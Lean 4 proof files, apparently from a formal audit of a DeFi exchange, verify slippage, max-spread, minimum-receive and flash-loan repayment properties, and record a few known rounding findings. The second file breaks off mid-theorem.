    *before* it is multiplied by the offer.  Price 3.0, max spread 0, offer 3·10²⁰: the code expects
    99 999 999 999 999 999 900 and accepts it — 100 base units short of `offer/p = 10²⁰`.
    (Known finding `C15-belief-inverse-rounding`; `belief_bound` is what does hold.) -/
theorem belief_within_one_unit_fails_on_current : ¬ BeliefWithinOneUnit := by
  intro h
  have := h (some 0) (3 * E18) 300000000000000000000 99999999999999999900 0 (by decide) (by decide)
    (by decide)
  revert this
  decide

/-- what remains true with a single base unit: when the price's inverse is exact (`p ∣ 10³⁶`) and
    `expected < 10¹⁸`, a success has `gross + 2 > (offer/p)(1−s)`. -/
theorem belief_within_two_units_partial (s : Option Nat) {p offer : Nat} (gross spread : Nat)
    (hp : p ≠ 0) (hdiv : E18 * E18 / p * p = E18 * E18) (hsmall : beliefExpected p offer < E18)
    (h : assertMaxSpread (some p) s offer gross spread = .ok ()) :
    offer * (E18 - effSpread s) < (gross + 2) * p := by
  have hexp : beliefExpected p offer ≤ U128MAX := le_trans (le_of_lt hsmall) (by decide)
  have hiff := (belief_iff s gross spread hp hexp).mp h
  have hpp : 0 < p := Nat.pos_of_ne_zero hp
  have hB : beliefExpected p offer * (E18 - effSpread s) ≤ gross * E18 + beliefExpected p offer := by
    apply belief_ratio_core _ _ _ _ (effSpread_le_one s)
    rcases hiff with h1 | h2
    · exact Or.inl h1
    · rcases Nat.eq_zero_or_pos (beliefExpected p offer) with h0 | hpos
      · left; omega
      · exact Or.inr ((floor_le_iff hpos).mp h2)
  have hDE : E18 - effSpread s ≤ E18 := Nat.sub_le _ _
  unfold beliefExpected at *
  have h2 := lt_succ_div_mul (offer * (E18 * E18 / p)) E18_pos
  generalize E18 - effSpread s = D at *
  generalize E18 * E18 / p = inv at *
  generalize offer * inv / E18 = e at *
  have hE := E18_pos
  -- offer*E*E = offer*inv*p < (e+1)*E*p  ⇒  offer*E < (e+1)*p
  have h3 : offer * E18 < (e + 1) * p := by
    apply Nat.lt_of_mul_lt_mul_right (a := E18)
    have a1 := Nat.mul_le_mul_right p (Nat.succ_le_of_lt h2)
    nlinarith
  -- (offer*D)*E ≤ ... < (gross+2)*p*E
  apply Nat.lt_of_mul_lt_mul_right (a := E18)
  have a2 := Nat.mul_le_mul_right D (Nat.succ_le_of_lt h3)
  have a3 := Nat.mul_le_mul_right p hB
  have a4 := Nat.mul_le_mul_left p hDE
  have a5 := Nat.mul_le_mul_left p (le_of_lt hsmall)
  nlinarith

/-! ## liquidity deposits: slippage tolerance -/

/-- **cp_tolerance_iff** — constant-product pair, tolerance `t ≤ 1`, non-zero `Uint128` deposits and
    reserves: accepted exactly when in both directions
    `⌊⌊d_i·10¹⁸/d_j⌋·(10¹⁸−t)/10¹⁸⌋ ≤ ⌊p_i·10¹⁸/p_j⌋` ("the deposit's price, lowered by the
    tolerance, does not exceed the pool's price"). -/
theorem cp_tolerance_iff {t d0 d1 p0 p1 : Nat} (amount supply : Nat) (ht : t ≤ E18)
    (hd0 : d0 ≠ 0) (hd1 : d1 ≠ 0) (hp0 : p0 ≠ 0) (hp1 : p1 ≠ 0)
    (bd0 : d0 ≤ U128MAX) (bd1 : d1 ≤ U128MAX) (bp0 : p0 ≤ U128MAX) (bp1 : p1 ≤ U128MAX) :
    pairAssertSlippage (some t) d0 d1 p0 p1 .constantProduct amount supply = .ok () ↔
      (d0 * E18 / d1 * (E18 - t) / E18 ≤ p0 * E18 / p1 ∧
       d1 * E18 / d0 * (E18 - t) / E18 ≤ p1 * E18 / p0) := by
  rw [pairAssertSlippage_cp_closed amount supply ht hd0 hd1 hp0 hp1 bd0 bd1 bp0 bp1]
  constructor
  · intro h; by_contra hn; rw [if_neg hn] at h; cases h
  · intro h; rw [if_pos h]

/-- rational form: `d_i/d_j·(1−t) ≤ p_i/p_j` both ways ⇒ accepted;
    accepted ⇒ `d_i/d_j·(1−t) < p_i/p_j + 2·10⁻¹⁸` both ways. -/
theorem cp_tolerance_rational {t d0 d1 p0 p1 : Nat} (amount supply : Nat) (ht : t ≤ E18)
    (hd0 : d0 ≠ 0) (hd1 : d1 ≠ 0) (hp0 : p0 ≠ 0) (hp1 : p1 ≠ 0)
    (bd0 : d0 ≤ U128MAX) (bd1 : d1 ≤ U128MAX) (bp0 : p0 ≤ U128MAX) (bp1 : p1 ≤ U128MAX) :
    ((d0 * (E18 - t) * p1 ≤ p0 * E18 * d1 ∧ d1 * (E18 - t) * p0 ≤ p1 * E18 * d0) →
      pairAssertSlippage (some t) d0 d1 p0 p1 .constantProduct amount supply = .ok ()) ∧
    (pairAssertSlippage (some t) d0 d1 p0 p1 .constantProduct amount supply = .ok () →
      d0 * (E18 - t) * p1 < (p0 * E18 + 2 * p1) * d1 ∧
      d1 * (E18 - t) * p0 < (p1 * E18 + 2 * p0) * d0) := by
  rw [cp_tolerance_iff amount supply ht hd0 hd1 hp0 hp1 bd0 bd1 bp0 bp1]
  have q0 := Nat.pos_of_ne_zero hd0
  have q1 := Nat.pos_of_ne_zero hd1
  have r0 := Nat.pos_of_ne_zero hp0
  have r1 := Nat.pos_of_ne_zero hp1
  exact ⟨fun h => ⟨cpSide_of_real q1 r1 h.1, cpSide_of_real q0 r0 h.2⟩,
         fun h => ⟨real_of_cpSide q1 r1 h.1, real_of_cpSide q0 r0 h.2⟩⟩

/-- **ss_tolerance_iff** — two-asset stableswap pair, `t ≤ 1`, LP `amount` and `supply` non-zero:
    accepted exactly when `⌊⌊(p0+p1)·10¹⁸/supply⌋·(10¹⁸−t)/10¹⁸⌋ ≤ ⌊(d0+d1)·10¹⁸/amount⌋`
    ("assets per LP share paid by the deposit are at least (1−t) × the pool's"). -/
theorem ss_tolerance_iff {t d0 d1 p0 p1 amount supply : Nat} (ht : t ≤ E18)
    (ha : amount ≠ 0) (hs : supply ≠ 0)
    (bd0 : d0 ≤ U128MAX) (bd1 : d1 ≤ U128MAX) (bp0 : p0 ≤ U128MAX) (bp1 : p1 ≤ U128MAX) :
    pairAssertSlippage (some t) d0 d1 p0 p1 .stableSwap amount supply = .ok () ↔
      (p0 + p1) * E18 / supply * (E18 - t) / E18 ≤ (d0 + d1) * E18 / amount := by
  rw [pairAssertSlippage_ss_closed ht ha hs bd0 bd1 bp0 bp1]
  constructor
  · intro h; by_contra hn; rw [if_neg hn] at h; cases h
  · intro h; rw [if_pos h]

theorem ss_tolerance_rational {t d0 d1 p0 p1 amount supply : Nat} (ht : t ≤ E18)
    (ha : amount ≠ 0) (hs : supply ≠ 0)
    (bd0 : d0 ≤ U128MAX) (bd1 : d1 ≤ U128MAX) (bp0 : p0 ≤ U128MAX) (bp1 : p1 ≤ U128MAX) :
    ((p0 + p1) * (E18 - t) * amount ≤ (d0 + d1) * E18 * supply →
      pairAssertSlippage (some t) d0 d1 p0 p1 .stableSwap amount supply = .ok ()) ∧
    (pairAssertSlippage (some t) d0 d1 p0 p1 .stableSwap amount supply = .ok () →
      (p0 + p1) * (E18 - t) * amount < ((d0 + d1) * E18 + 2 * amount) * supply) := by
  rw [ss_tolerance_iff ht ha hs bd0 bd1 bp0 bp1]
  have qa := Nat.pos_of_ne_zero ha
  have qs := Nat.pos_of_ne_zero hs
  exact ⟨fun h => cpSide_of_real qs qa h, fun h => real_of_cpSide qs qa h⟩

/-- **trio_tolerance_iff** — three-asset stableswap, same bound over three reserves / deposits -/
theorem trio_tolerance_iff {t d0 d1 d2 p0 p1 p2 amount supply : Nat} (ht : t ≤ E18)
    (ha : amount ≠ 0) (hs : supply ≠ 0)
    (bd0 : d0 ≤ U128MAX) (bd1 : d1 ≤ U128MAX) (bd2 : d2 ≤ U128MAX)
    (bp0 : p0 ≤ U128MAX) (bp1 : p1 ≤ U128MAX) (bp2 : p2 ≤ U128MAX) :
    trioAssertSlippage (some t) d0 d1 d2 p0 p1 p2 amount supply = .ok () ↔
      (p0 + p1 + p2) * E18 / supply * (E18 - t) / E18 ≤ (d0 + d1 + d2) * E18 / amount := by
  rw [trioAssertSlippage_closed ht ha hs bd0 bd1 bd2 bp0 bp1 bp2]
  constructor
  · intro h; by_contra hn; rw [if_neg hn] at h; cases h
  · intro h; rw [if_pos h]

theorem trio_tolerance_rational {t d0 d1 d2 p0 p1 p2 amount supply : Nat} (ht : t ≤ E18)
    (ha : amount ≠ 0) (hs : supply ≠ 0)
    (bd0 : d0 ≤ U128MAX) (bd1 : d1 ≤ U128MAX) (bd2 : d2 ≤ U128MAX)
    (bp0 : p0 ≤ U128MAX) (bp1 : p1 ≤ U128MAX) (bp2 : p2 ≤ U128MAX) :
    ((p0 + p1 + p2) * (E18 - t) * amount ≤ (d0 + d1 + d2) * E18 * supply →
      trioAssertSlippage (some t) d0 d1 d2 p0 p1 p2 amount supply = .ok ()) ∧
    (trioAssertSlippage (some t) d0 d1 d2 p0 p1 p2 amount supply = .ok () →
      (p0 + p1 + p2) * (E18 - t) * amount < ((d0 + d1 + d2) * E18 + 2 * amount) * supply) := by
  rw [trio_tolerance_iff ht ha hs bd0 bd1 bd2 bp0 bp1 bp2]
  have qa := Nat.pos_of_ne_zero ha
  have qs := Nat.pos_of_ne_zero hs
  exact ⟨fun h => cpSide_of_real qs qa h, fun h => real_of_cpSide qs qa h⟩

/-- **tolerance_gt_one_rejected** — a tolerance above 100 % is an error in every pool type, for all
    other arguments (it is checked first); and without a tolerance nothing is checked. -/
theorem tolerance_gt_one_rejected {t : Nat} (ht : E18 < t) :
    (∀ d0 d1 p0 p1 k amount supply, pairAssertSlippage (some t) d0 d1 p0 p1 k amount supply = .err) ∧
    (∀ d0 d1 d2 p0 p1 p2 amount supply,
      trioAssertSlippage (some t) d0 d1 d2 p0 p1 p2 amount supply = .err) :=
  ⟨fun d0 d1 p0 p1 k a s => pairAssertSlippage_gt_one ht d0 d1 p0 p1 k a s,
   fun d0 d1 d2 p0 p1 p2 a s => trioAssertSlippage_gt_one ht d0 d1 d2 p0 p1 p2 a s⟩

theorem no_tolerance_accepted :
    (∀ d0 d1 p0 p1 k amount supply, pairAssertSlippage none d0 d1 p0 p1 k amount supply = .ok ()) ∧
    (∀ d0 d1 d2 p0 p1 p2 amount supply,
      trioAssertSlippage none d0 d1 d2 p0 p1 p2 amount supply = .ok ()) :=
  ⟨fun _ _ _ _ _ _ _ => rfl, fun _ _ _ _ _ _ _ _ => rfl⟩

/-- a tolerance of exactly 100 % accepts every deposit (the left side becomes 0) -/
theorem tolerance_one_accepts_all {d0 d1 p0 p1 : Nat} (amount supply : Nat)
    (hd0 : d0 ≠ 0) (hd1 : d1 ≠ 0) (hp0 : p0 ≠ 0) (hp1 : p1 ≠ 0)
    (bd0 : d0 ≤ U128MAX) (bd1 : d1 ≤ U128MAX) (bp0 : p0 ≤ U128MAX) (bp1 : p1 ≤ U128MAX) :
    pairAssertSlippage (some E18) d0 d1 p0 p1 .constantProduct amount supply = .ok () := by
  rw [cp_tolerance_iff amount supply (Nat.le_refl _) hd0 hd1 hp0 hp1 bd0 bd1 bp0 bp1]
  simp

/-! ## router: minimum receive -/

/-- **min_receive_iff** — the router's assertion accepts exactly when the receiver's balance of the
    final asset grew by at least `m` over the balance recorded before the hops (`cur − prev ≥ m`,
    with no wrap-around: a balance that dropped is an error). -/
theorem min_receive_iff (prev m cur : Nat) :
    assertMinimumReceive prev m cur = .ok () ↔ prev ≤ cur ∧ m ≤ cur - prev := by
  rw [assertMinimumReceive_closed]
  constructor
  · intro h; by_contra hn; rw [if_neg (by omega)] at h; cases h
  · intro h; rw [if_pos (by omega)]

theorem min_receive_rejects_iff (prev m cur : Nat) :
    assertMinimumReceive prev m cur = .err ↔ cur < prev + m := by
  rw [assertMinimumReceive_closed]
  constructor
  · intro h; by_contra hn; rw [if_pos (by omega)] at h; cases h
  · intro h; rw [if_neg (by omega)]

/-! ## call sites -/

/-- the pair hands `assert_max_spread` the **gross** return (proceeds + swap + protocol + burn fee
    = `⌊ask·offer/(pool+offer)⌋`) and `compute_swap`'s spread: so a constant-product swap that
    succeeds without a belief price had `spread/(gross + spread) ≤ min(s ?? 1 %, 50 %)` (floored),
    for all `Uint128` reserves / offers and all valid fees; it pays the receiver the net proceeds. -/
theorem swap_success_within_spread {op ap off : Nat} {f : Fees} (s : Option Nat) {r : Nat}
    (hop : In128 op) (hap : In128 ap) (hoff : In128 off) (hop1 : 1 ≤ op) (hf : f.valid = true)
    (h : pairSwapChecked op ap off f none s = .ok r) :
    cpSpread op ap off * E18 / (cpGross op ap off + cpSpread op ap off) ≤ effSpread s ∧
    r = (cpResult op ap off f).ret := by
  by_cases hsp : cpSpread op ap off ≤ U128MAX
  · rw [pairSwapChecked_closed none s hop hap hoff hop1 hf hsp] at h
    by_cases h0 : cpGross op ap off + cpSpread op ap off = 0
    · have g0 : cpGross op ap off = 0 := by omega
      have s0 : cpSpread op ap off = 0 := by omega
      rw [g0, s0, assertMaxSpread_none_zero] at h
      cases h
    · by_cases hmax : cpGross op ap off + cpSpread op ap off ≤ U128MAX
      · rw [assertMaxSpread_none_closed s off h0 hmax] at h
        by_cases hr : cpSpread op ap off * E18 / (cpGross op ap off + cpSpread op ap off) ≤ effSpread s
        · rw [if_pos hr] at h
          rw [Res.bind_ok] at h
          injection h with h
          exact ⟨hr, h.symm⟩
        · rw [if_neg hr] at h; cases h
      · rw [assertMaxSpread_none_overflow s off hmax] at h; cases h
  · unfold pairSwapChecked at h
    rw [cpSwap_closed hop hap hoff hop1 hf, if_neg hsp] at h
    cases h

/-- … and a swap inside the limit is not rejected (`hmax`: the `Uint128` sum `gross + spread` the
    assertion forms does not overflow — it can only for an ask reserve above 2¹²⁷). -/
theorem swap_within_spread_succeeds {op ap off : Nat} {f : Fees} (s : Option Nat)
    (hop : In128 op) (hap : In128 ap) (hoff : In128 off) (hop1 : 1 ≤ op) (hf : f.valid = true)
    (h0 : cpGross op ap off + cpSpread op ap off ≠ 0)
    (hmax : cpGross op ap off + cpSpread op ap off ≤ U128MAX)
    (h : cpSpread op ap off * E18 ≤ effSpread s * (cpGross op ap off + cpSpread op ap off)) :
    pairSwapChecked op ap off f none s = .ok (cpResult op ap off f).ret := by
  have hsp : cpSpread op ap off ≤ U128MAX := by omega
  rw [pairSwapChecked_closed none s hop hap hoff hop1 hf hsp]
  rw [max_spread_complete s off h0 hmax h]
  rfl

/-- **route_min_receive** — a router `ExecuteSwapOperations` that succeeds with
    `minimum_receive = m` increased the receiver's balance of the final asset by at least `m`,
    whatever the receiver held before (`prev`), for every route length and every pool state. -/
theorem route_min_receive {f : Fees} {ms : Option Nat} {m prev : Nat} {hops : List (Nat × Nat)}
    {offer out : Nat} (h : routeChecked f ms (some m) prev hops offer = .ok out) :
    m ≤ out ∧ m ≤ (prev + out) - prev := by
  have hh := routeChecked_ok_hops h
  rw [routeChecked_some hh] at h
  by_cases hm : m ≤ out
  · exact ⟨hm, by omega⟩
  · rw [if_neg hm] at h; cases h

/-- … and conversely: if the hops themselves go through and pay `out ≥ m`, the minimum-receive
    assertion does not reject; if they pay less, the whole operation is an error. -/
theorem route_min_receive_iff {f : Fees} {ms : Option Nat} {m prev : Nat} {hops : List (Nat × Nat)}
    {offer out : Nat} (hh : routeHops f ms hops offer = .ok out) :
    (routeChecked f ms (some m) prev hops offer = .ok out ↔ m ≤ out) ∧
    (routeChecked f ms (some m) prev hops offer = .err ↔ out < m) := by
  rw [routeChecked_some hh]
  constructor
  · constructor
    · intro h; by_contra hn; rw [if_neg hn] at h; cases h
    · intro h; rw [if_pos h]
  · constructor
    · intro h; by_contra hn; rw [if_pos (by omega)] at h; cases h
    · intro h; rw [if_neg (by omega)]

/-! ## non-vacuity / exact outputs on concrete inputs -/

-- default 1 %: 990 gross + 10 spread is exactly 1 % → accepted; 989 + 10 is above → rejected
example : assertMaxSpread none none 1000 990 10 = .ok () := by decide
example : assertMaxSpread none none 1000 989 10 = .err := by decide
-- the cap: a request of 60 % is held to 50 %
example : assertMaxSpread none (some (6 * E18 / 10)) 1000 500 500 = .ok () := by decide
example : assertMaxSpread none (some (6 * E18 / 10)) 1000 499 501 = .err := by decide
-- belief price 2.0, 1 %: expected 500, 495 accepted, 494 rejected
example : assertMaxSpread (some (2 * E18)) none 1000 495 0 = .ok () := by decide
example : assertMaxSpread (some (2 * E18)) none 1000 494 0 = .err := by decide
-- a belief price above 10¹⁸ has inverse 0: the check accepts a zero return
example : assertMaxSpread (some (E18 * E18 + 1)) (some 0) (10 ^ 30) 0 0 = .ok () := by decide
-- constant-product tolerance 1 %: pool 1:1, deposit 101:100 accepted, 102:100 rejected
example : pairAssertSlippage (some (E18 / 100)) 101 100 1000 1000 .constantProduct 0 0 = .ok () := by
  decide
example : pairAssertSlippage (some (E18 / 100)) 102 100 1000 1000 .constantProduct 0 0 = .err := by
  decide
-- stableswap: pool holds 2 assets per share; a deposit paying 1.98 per share passes 1 %, 1.97 does not
example : pairAssertSlippage (some (E18 / 100)) 99 99 1000 1000 .stableSwap 100 1000 = .ok () := by
  decide
example : pairAssertSlippage (some (E18 / 100)) 99 98 1000 1000 .stableSwap 100 1000 = .err := by
  decide
example : trioAssertSlippage (some (E18 / 100)) 99 99 99 1000 1000 1000 100 1000 = .ok () := by decide
example : trioAssertSlippage (some (E18 + 1)) 99 99 99 1000 1000 1000 100 1000 = .err := by decide
-- router: receiver held 7, minimum 5
example : assertMinimumReceive 7 5 12 = .ok () := by decide
example : assertMinimumReceive 7 5 11 = .err := by decide
-- a 2-hop route on 10⁹/10⁹ pools, fees 0.1 % + 0.2 %, offer 10⁶, max spread 1 %: pays 992 026
example : routeChecked ⟨E18 / 1000, 2 * E18 / 1000, 0⟩ none (some 992026) 7
    [(1000000000, 1000000000), (1000000000, 1000000000)] 1000000 = .ok 992026 := by decide
example : routeChecked ⟨E18 / 1000, 2 * E18 / 1000, 0⟩ none (some 992027) 7
    [(1000000000, 1000000000), (1000000000, 1000000000)] 1000000 = .err := by decide

end WW.C15
