/-
  C06 — Flash loans are repaid with all fees or the whole transaction reverts.
  Property theorems only. Model: WW/Model/Vault.lean — the borrower's callback is an arbitrary finite
  tree `List Act` (repay any amount, deposit, withdraw, collect fees, transfer out, fail, take another
  loan with its own callback tree …), so every theorem below quantifies over ALL borrower behaviours
  of ANY depth, all loan amounts, all fee triples, native and cw20 assets.
  The vault-router path (router FlashLoan → vault.FlashLoan with the router as borrower → NextLoan =
  the payload's messages executed as the router → CompleteLoan → after_trade) is the second half of
  this file: the payload is an arbitrary `List RAct` (fund the router from the borrower contract, send
  out, pay the vault, collect, deposit, fail, run the borrower contract's whole alphabet, call
  CompleteLoan early, take another router loan with its own payload …).
  The third part (theorems `chain_…`) is the router in front of SEVERAL vaults (model:
  WW/Model/VaultChain.lean): the chain of `NextLoan`s over any number of vaults, the payload being ANY
  state transformer `run : St → Option St` (so every payload outcome is covered, not only an alphabet).
-/
import WW.Proofs.Vault
import WW.Proofs.VaultChain
namespace WW.C06
open WW WW.Vault

/-- All or nothing: a transaction that fails leaves every balance and ledger untouched … -/
theorem failed_changes_nothing (s : St) (op : Op) (h : step s op = none) : Vault.apply s op = s := by
  simp [Vault.apply, h]

/-- … and one that succeeds is exactly the model's successor state (there is no third outcome). -/
theorem all_or_nothing (s : St) (op : Op) :
    Vault.apply s op = s ∨ ∃ s', step s op = some s' ∧ Vault.apply s op = s' := by
  cases h : step s op with
  | none => left; simp [Vault.apply, h]
  | some s' => right; exact ⟨s', rfl, by simp [Vault.apply, h]⟩

/-- A successful loan ends with the vault's balance higher than before by at least the protocol and
    the flash-loan fee, whatever the callback tree did (re-entrant withdrawals and fee collections
    included), with the burn fee destroyed (total supply of the asset drops by exactly that fee). -/
theorem loan_balance_ge {s s' : St} {amount : Nat} {cb : List Act} (hI : Inv s)
    (h : loanFrom s amount cb = some s') :
    s.bal + fee s.fees.prot amount + fee s.fees.flash amount ≤ s'.bal ∧
    s'.burned = s.burned + fee s.fees.burn amount ∧
    s'.assetSupply + fee s.fees.burn amount = s.assetSupply :=
  let L := loan_spec hI h
  ⟨L.balGe, L.burned, L.assetSupply⟩

/-- Each fee is exactly `⌊share · loan⌋`; the protocol fee is what the ledgers record. -/
theorem fee_exact {s s' : St} {amount : Nat} {cb : List Act} (hI : Inv s)
    (h : loanFrom s amount cb = some s') :
    s'.allTime = s.allTime + amount * s.fees.prot / E18 ∧
    s'.burned = s.burned + amount * s.fees.burn / E18 ∧
    s'.pend ≤ s.pend + amount * s.fees.prot / E18 :=
  let L := loan_spec hI h
  ⟨L.allTime, L.burned, L.pendLe⟩

/-- No vault shares can be minted while a loan is outstanding: the share supply after a loan is at
    most what it was before … -/
theorem no_mint_during_loan {s s' : St} {amount : Nat} {cb : List Act} (hI : Inv s)
    (h : loanFrom s amount cb = some s') : s'.sup ≤ s.sup := (loan_spec hI h).supLe

/-- … and a callback that tries to deposit — at any position — makes the whole loan revert. -/
theorem deposit_in_callback_reverts {s : St} {amount n : Nat} {cb : List Act} (hI : Inv s)
    (hmem : Act.deposit n ∈ cb) : loanFrom s amount cb = none := by
  unfold loanFrom
  rw [run]
  split
  · rfl
  split
  · rfl
  split
  · rfl
  split
  · rfl
  · rename_i s1 hp
    rw [runs_deposit_fails (cb_start hI (by omega) hp) n hmem]

/-- A loan taken from inside a callback of the same vault — at any position, with any callback of
    its own — makes the whole transaction revert (the repaired guard). -/
theorem nested_loan_reverts {s : St} {amount n : Nat} {cb cb' : List Act} (hI : Inv s)
    (hmem : Act.loan n cb' ∈ cb) : loanFrom s amount cb = none := by
  unfold loanFrom
  rw [run]
  split
  · rfl
  split
  · rfl
  split
  · rfl
  split
  · rfl
  · rename_i s1 hp
    rw [runs_loan_fails (cb_start hI (by omega) hp) n cb' hmem]

/-- The loan counter is back to zero afterwards. -/
theorem counter_restored {s s' : St} {amount : Nat} {cb : List Act} (hI : Inv s)
    (h : loanFrom s amount cb = some s') : s'.ctr = 0 := (loan_spec hI h).ctr

/-- preconditions under which nothing but the repayment decides the outcome of a repay-only loan:
    loans enabled, a non-zero loan the vault can fund, the borrower can fund the repayment, and the
    128-bit ledgers do not overflow -/
structure PaybackPre (s : St) (amount x : Nat) : Prop where
  flOn : s.flOn = true
  pos : 0 < amount
  funded : amount ≤ s.bal
  xpos : 0 < x
  canPay : x ≤ getN s.ab 3 + amount
  noOverflow : s.bal + x ≤ U128MAX ∧ s.pend + amount ≤ U128MAX ∧ s.allTime + amount ≤ U128MAX
    ∧ s.burned + amount ≤ U128MAX

/-- Repaying exactly the quoted payback amount always suffices, and one unit less never does:
    a callback that only repays `x` succeeds **iff** `x ≥ GetPaybackAmount(amount)`. -/
theorem payback_exact {s : St} {amount x : Nat} (hI : Inv s) (hv : s.fees.valid = true)
    (hp : PaybackPre s amount x) :
    (loanFrom s amount [.pay x]).isSome = true ↔ payback s amount ≤ x := by
  have hctr := hI.ctr0
  have hlen := hI.abLen
  obtain ⟨n1, n2, n3, n4⟩ := hp.noOverflow
  simp only [VFees.valid, Bool.and_eq_true, decide_eq_true_eq] at hv
  obtain ⟨⟨⟨hv1, hv2⟩, hv3⟩, hv4⟩ := hv
  have hf1 : fee s.fees.prot amount ≤ amount := mul_div_le_of_le (le_of_lt hv1)
  have hf3 : fee s.fees.burn amount ≤ amount := mul_div_le_of_le (le_of_lt hv3)
  have hfs : fee s.fees.prot amount + fee s.fees.flash amount + fee s.fees.burn amount ≤ amount := by
    have := three_fees_le amount s.fees.prot s.fees.flash s.fees.burn E18 (by omega)
    simpa [fee] using this
  have hfunded := hp.funded
  have hxpos := hp.xpos
  have hcan := hp.canPay
  have hpos := hp.pos
  have h3 : 3 < s.ab.length := by rw [hlen]; omega
  have hg : getN (setN s.ab 3 (getN s.ab 3 + amount)) 3 = getN s.ab 3 + amount := getN_setN_same _ _ _ h3
  -- the loan leaves the vault, the callback repays x
  have hpo : payOut { s with ctr := s.ctr + 1 } 3 amount
      = some { s with ctr := s.ctr + 1, ab := setN s.ab 3 (getN s.ab 3 + amount), bal := s.bal - amount } := by
    unfold payOut
    rw [if_neg (by simp only; omega)]
  have hpay : run { s with ctr := s.ctr + 1, ab := setN s.ab 3 (getN s.ab 3 + amount), bal := s.bal - amount }
      (.pay x) = some { s with ctr := s.ctr + 1, ab := setN (setN s.ab 3 (getN s.ab 3 + amount)) 3 (getN s.ab 3 + amount - x), bal := s.bal - amount + x } := by
    rw [run_pay]; unfold payIn
    rw [if_neg (by simp only [hg]; omega)]
    simp only [hg]
  have e1 : (!s.flOn) = false := by rw [hp.flOn]; rfl
  unfold loanFrom
  rw [run]
  rw [if_neg (by rw [e1]; simp), if_neg (by omega), if_neg (by omega), hpo]
  simp only []
  rw [runs_cons_some [] hpay, runs_nil]
  simp only []
  -- after_trade decides
  unfold afterTrade payback
  constructor
  · intro h
    split at h
    · rename_i hok
      simp only [afterTradeOk, Bool.and_eq_true, decide_eq_true_eq] at hok
      obtain ⟨⟨⟨⟨_, hneed⟩, _⟩, _⟩, _⟩ := hok
      omega
    · simp at h
  · intro hx
    rw [if_pos]
    · rfl
    · simp only [afterTradeOk, Bool.and_eq_true, decide_eq_true_eq]
      refine ⟨⟨⟨⟨?_, ?_⟩, ?_⟩, ?_⟩, ?_⟩ <;> omega

/-! ### through the vault router -/

/-- Router path, all or nothing: a router transaction that fails leaves every balance and ledger
    untouched (the general `failed_changes_nothing` instantiated, for the record). -/
theorem router_failed_changes_nothing (s : St) (i amount : Nat) (payload : List RAct)
    (h : step s (.routerLoan i amount payload) = none) :
    Vault.apply s (.routerLoan i amount payload) = s := failed_changes_nothing s _ h

/-- A successful flash loan through the router ends with the vault's balance higher than before by
    at least the protocol and the flash-loan fee, whatever the payload did, with the burn fee
    destroyed — the router loan satisfies the same `LoanSpec` as a direct loan. -/
theorem router_loan_balance_ge {s s' : St} {i amount : Nat} {payload : List RAct} (hI : Inv s)
    (hi : i < 4) (h : routerLoanFrom s i amount payload = some s') :
    s.bal + fee s.fees.prot amount + fee s.fees.flash amount ≤ s'.bal ∧
    s'.burned = s.burned + fee s.fees.burn amount ∧
    s'.assetSupply + fee s.fees.burn amount = s.assetSupply :=
  let L := router_loan_spec hI (by omega) h
  ⟨L.balGe, L.burned, L.assetSupply⟩

/-- Router path: each fee is exactly `⌊share · loan⌋`. -/
theorem router_fee_exact {s s' : St} {i amount : Nat} {payload : List RAct} (hI : Inv s)
    (hi : i < 4) (h : routerLoanFrom s i amount payload = some s') :
    s'.allTime = s.allTime + amount * s.fees.prot / E18 ∧
    s'.burned = s.burned + amount * s.fees.burn / E18 ∧
    s'.pend ≤ s.pend + amount * s.fees.prot / E18 :=
  let L := router_loan_spec hI (by omega) h
  ⟨L.allTime, L.burned, L.pendLe⟩

/-- Router path: no vault shares are minted while the loan is outstanding … -/
theorem router_no_mint_during_loan {s s' : St} {i amount : Nat} {payload : List RAct} (hI : Inv s)
    (hi : i < 4) (h : routerLoanFrom s i amount payload = some s') : s'.sup ≤ s.sup :=
  (router_loan_spec hI (by omega) h).supLe

/-- … a payload that tries to deposit — at any position — makes the whole router loan revert … -/
theorem deposit_in_payload_reverts {s : St} {i amount n : Nat} {payload : List RAct} (hI : Inv s)
    (hmem : RAct.deposit n ∈ payload) : routerLoanFrom s i amount payload = none := by
  cases h : routerLoanFrom s i amount payload with
  | none => rfl
  | some s' =>
    obtain ⟨_, _, s1, s2, _, hp, hr, _⟩ := router_loan_parts h
    rw [rruns_deposit_fails (cb_start hI (by omega) hp) n hmem] at hr
    cases hr

/-- … and so does a further router flash loan from inside the payload, whatever its own payload
    (the router is the borrower of the outer loan; the vault refuses a loan while one is in flight). -/
theorem nested_router_loan_reverts {s : St} {i amount j n : Nat} {payload p' : List RAct} (hI : Inv s)
    (hmem : RAct.routerLoan j n p' ∈ payload) : routerLoanFrom s i amount payload = none := by
  cases h : routerLoanFrom s i amount payload with
  | none => rfl
  | some s' =>
    obtain ⟨_, _, s1, s2, _, hp, hr, _⟩ := router_loan_parts h
    rw [rruns_routerLoan_fails (cb_start hI (by omega) hp) j n p' hmem] at hr
    cases hr

/-- Router path: the loan counter is back to zero afterwards. -/
theorem router_counter_restored {s s' : St} {i amount : Nat} {payload : List RAct} (hI : Inv s)
    (hi : i < 4) (h : routerLoanFrom s i amount payload = some s') : s'.ctr = 0 :=
  (router_loan_spec hI (by omega) h).ctr

/-- **The router keeps nothing**: after a successful router flash loan the router's balance of the
    asset is zero — whatever it held before the loan (stray funds included) and whatever the payload
    did. -/
theorem router_keeps_nothing {s s' : St} {i amount : Nat} {payload : List RAct} (hI : Inv s)
    (hi : i < 4) (h : routerLoanFrom s i amount payload = some s') : getN s'.ab 5 = 0 := by
  obtain ⟨_, _, s1, s2, s3, hp, hr, hcl, hat⟩ := router_loan_parts h
  obtain ⟨hI2, _⟩ := rruns_cb (cb_start hI (by omega) hp) hr
  obtain ⟨_, _, _, _, h5, _⟩ := completeLoan_spec hI2.abLen (by omega) hcl
  obtain ⟨_, rfl⟩ := afterTrade_ok_of_some hat
  exact h5

/-- **It pays the vault the quoted amount and forwards all remaining proceeds to the initiator**:
    with `s2` the state when the payload has finished and `s3` the state after `CompleteLoan`,
    the quote is `GetPaybackAmount(amount)` under the fee configuration in force (unchanged since the
    loan was taken), the router held at least that, the vault's balance rose by exactly the quote,
    the initiator received exactly `router balance − quote`, nobody else's balance moved, and
    `after_trade` (which only burns the burn fee out of the vault) leads to the final state. -/
theorem router_pays_quote_forwards_rest {s s' : St} {i amount : Nat} {payload : List RAct}
    (hI : Inv s) (hi : i < 4) (h : routerLoanFrom s i amount payload = some s') :
    ∃ s2 s3, completeLoan s2 i amount = some s3 ∧ afterTrade s3 s.bal amount = some s' ∧
      payback s2 amount = payback s amount ∧
      payback s amount ≤ getN s2.ab 5 ∧
      s3.bal = s2.bal + payback s amount ∧
